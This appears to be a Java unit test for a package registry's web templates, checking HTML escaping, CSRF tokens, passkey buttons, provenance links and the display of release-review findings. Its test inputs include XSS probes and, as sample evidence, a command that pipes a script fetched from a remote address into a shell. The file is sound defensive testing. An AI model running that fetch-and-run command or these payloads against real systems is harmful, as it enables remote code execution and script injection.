package dev.warden.server;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

import java.util.List;

/** The page templates escape what they are given, wherever it stands, and link only to http(s). */
class TemplatesTest {

    @Test
    void textIsEscapedWithItsQuotes() {
        String html =
                Templates.render(
                        "message.jte",
                        new Views.Message(
                                "<b>title</b>", "it's <script>alert(\"x\")</script> & more", true));
        assertThat(html)
                .contains("<title>&lt;b>title&lt;/b></title>")
                .contains("<h1>&lt;b>title&lt;/b></h1>")
                .contains(
                        "<p class=\"error\">it&#39;s &lt;script>alert(&#34;x&#34;)&lt;/script>"
                                + " &amp; more</p>")
                .doesNotContain("<script>alert")
                .doesNotContain("<b>");
    }

    @Test
    void attributeValuesCannotCloseTheirQuotes() {
        String html =
                Templates.render(
                        "signup.jte",
                        new Views.Signup("/x\"><script>alert(1)</script>", "tok'en\"", null, null));
        assertThat(html)
                .contains("action=\"/x&#34;>&lt;script>alert(1)&lt;/script>\"")
                .contains("name=\"csrf\" value=\"tok&#39;en&#34;\"")
                .doesNotContain("<script>alert");
    }

    @Test
    void theCsrfTokenIsInTheHeadOnlyWhenThePageHasOne() {
        assertThat(Templates.render("signin.jte", new Views.Signin("abc123", null, false)))
                .contains("<meta name=\"csrf\" content=\"abc123\">");
        assertThat(
                        Templates.render(
                                "message.jte", new Views.Message("Approved", "Approved.", false)))
                .doesNotContain("name=\"csrf\"");
    }

    @Test
    void thePasskeyButtonSaysWhichRequestItAnswers() {
        String login =
                Templates.render(
                        "login.jte",
                        new Views.Login(
                                "page-1", "127.0.0.1", "2026-01-01T00:00:00Z", "t", null, true));
        assertThat(login)
                .contains(
                        "<button type=\"button\" id=\"passkey-signin\" data-login=\"page-1\">Sign"
                                + " in with a passkey</button>");
        String otp =
                Templates.render(
                        "otp.jte",
                        new Views.Otp(
                                "otp-1", "sol", "PUT /x", "2026-01-01T00:00:00Z", "t", null, true));
        assertThat(otp)
                .contains(
                        "<button type=\"button\" id=\"passkey-signin\" data-otp=\"otp-1\">Approve"
                                + " with a passkey</button>");
        assertThat(Templates.render("signin.jte", new Views.Signin("t", null, true)))
                .contains("<button type=\"button\" id=\"passkey-signin\">");
        assertThat(Templates.render("signin.jte", new Views.Signin("t", null, false)))
                .doesNotContain("passkey-signin");
    }

    @Test
    void provenanceLinksOnlyToHttpAddresses() {
        var origin =
                new Views.Origin(
                        "javascript:alert(1)",
                        "abc",
                        "refs/heads/main",
                        ".github/workflows/release.yml",
                        "https://github.com/o/r/actions/runs/1/attempts/1",
                        "2026-01-01T00:00:00Z");
        String html = Templates.render("package.jte", pkg(new Views.Provenance("1.0.0", origin)));
        assertThat(html)
                .contains(
                        "1.0.0 was built from <code>javascript:alert(1)</code> at commit <code"
                                + " id=\"provenance-commit\">abc</code>")
                .contains(
                        "in run <a id=\"provenance-run\""
                            + " href=\"https://github.com/o/r/actions/runs/1/attempts/1\">https://github.com/o/r/actions/runs/1/attempts/1</a>;"
                            + " signed 2026-01-01T00:00:00Z, verified at publish.")
                .doesNotContain("href=\"javascript:");
        assertThat(Templates.render("package.jte", pkg(new Views.Provenance(null, null))))
                .contains("<p id=\"provenance\">No release.</p>");
        assertThat(Templates.render("package.jte", pkg(null))).doesNotContain("Provenance");
    }

    @Test
    void aStageShowsTheReviewsFindingsWithEscapedEvidenceBeforeTheDiff() {
        var finding =
                new Views.Finding(
                        "install-downloads-executable",
                        "critical",
                        "quarantine",
                        "setup.js, run at install, downloads an executable and runs it",
                        List.of(
                                new Views.Evidence(
                                        "setup.js:2 [bytes 46+5]",
                                        "cp.exec('curl -s http://192.0.2.1/p.sh | sh')</pre><b>")));
        var stage =
                new Views.Stage(
                        "0b0e2a9c-0000-4000-8000-000000000000",
                        "1.1.0",
                        "olga",
                        0,
                        1,
                        "quarantine",
                        List.of(finding),
                        List.of(new Views.ReviewField("comparedWith", "1.0.0")));
        Views.Package base = pkg(null);
        Views.Package page =
                new Views.Package(
                        base.name(),
                        base.path(),
                        base.weeklyDownloads(),
                        base.dependents(),
                        base.highImpact(),
                        base.framework(),
                        base.approvals(),
                        base.coolOffHours(),
                        base.policyVersion(),
                        null,
                        base.maintainers(),
                        base.successors(),
                        base.notices(),
                        new Views.Pending(List.of(stage), List.of()),
                        false,
                        "csrf-token");

        String html = Templates.render("package.jte", page);

        assertThat(html)
                .contains("Release review: <strong class=\"review-action\">quarantine</strong>")
                .contains(
                        "<code>install-downloads-executable</code> (critical, quarantine):"
                                + " setup.js, run at install, downloads an executable and runs it")
                .contains("<code>setup.js:2 [bytes 46+5]</code>")
                .contains("cp.exec(&#39;curl -s http://192.0.2.1/p.sh | sh&#39;)&lt;/pre>&lt;b>")
                .doesNotContain("</pre><b>");
        assertThat(html.indexOf("install-downloads-executable"))
                .as("the findings come before the diff")
                .isLessThan(html.indexOf("comparedWith"));
    }

    @Test
    void thePackagePageNamesThePackagesOwnReviewThresholdsOrTheRegistrys() {
        Views.Package base = pkg(null);
        assertThat(Templates.render("package.jte", base))
                .contains("<p id=\"review-policy\">Release review: the registry's thresholds</p>");
        Views.Package own =
                new Views.Package(
                        base.name(),
                        base.path(),
                        base.weeklyDownloads(),
                        base.dependents(),
                        base.highImpact(),
                        base.framework(),
                        base.approvals(),
                        base.coolOffHours(),
                        base.policyVersion(),
                        null,
                        base.maintainers(),
                        base.successors(),
                        base.notices(),
                        null,
                        true,
                        null,
                        "hold at medium, quarantine at high");
        assertThat(Templates.render("package.jte", own))
                .contains(
                        "<p id=\"review-policy\">Release review: hold at medium, quarantine at"
                                + " high, or the registry's threshold where it is stricter</p>");
    }

    private static Views.Package pkg(Views.Provenance provenance) {
        return new Views.Package(
                "@o/p",
                "@o%2fp",
                5,
                1,
                false,
                "two-person",
                1,
                0,
                1,
                provenance,
                List.of("sol"),
                List.of(),
                List.of(),
                null,
                true,
                null);
    }
}
